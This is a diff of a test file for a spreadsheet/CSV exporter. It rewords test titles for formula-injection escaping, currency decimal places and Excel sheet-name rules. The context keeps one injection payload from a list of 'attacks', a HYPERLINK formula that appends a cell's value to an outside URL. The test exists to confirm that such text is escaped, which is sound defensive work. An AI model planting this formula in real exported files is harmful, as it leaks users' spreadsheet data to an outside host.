@@ -37,7 +37,7 @@ const attacks = [
   '=HYPERLINK("https://example.com?"&A1,"Click")',
 ];
 
-describe('A77 texts that could be formulas', () => {
+describe('texts that could be formulas (A77)', () => {
   it.each(attacks)('%j stands in CSV as text, behind an apostrophe', (text) => {
     const [, row] = readCsv(csvOf([tableOf(text, 'next')]));
     expect(row).toEqual([`'${text}`, 'next']);
@@ -66,7 +66,7 @@ describe('A77 texts that could be formulas', () => {
 });
 
 describe('numbers', () => {
-  it('stand with every place of their currency: 0, 2 and 3', () => {
+  it('are with every place of their currency: 0, 2 and 3', () => {
     const csv = csvOf([
       tableOf(moneyCell(53_185, 0), moneyCell(53_185, 2), moneyCell(-5, 3), moneyCell(Number.NaN, 2)),
     ]);
@@ -82,7 +82,7 @@ describe('numbers', () => {
 });
 
 describe('names', () => {
-  it('of sheets: what Excel refuses is left out, 31 characters at most, each once', () => {
+  it('of sheets: what Excel rejects is left out, 31 characters at most, each once', () => {
     expect(
       sheetNames(['a/b[c]:d*e?f\\g', "'quoted'", 'History', 'x'.repeat(40), 'x'.repeat(41), '', 'Cash', 'cash']),
     ).toEqual([
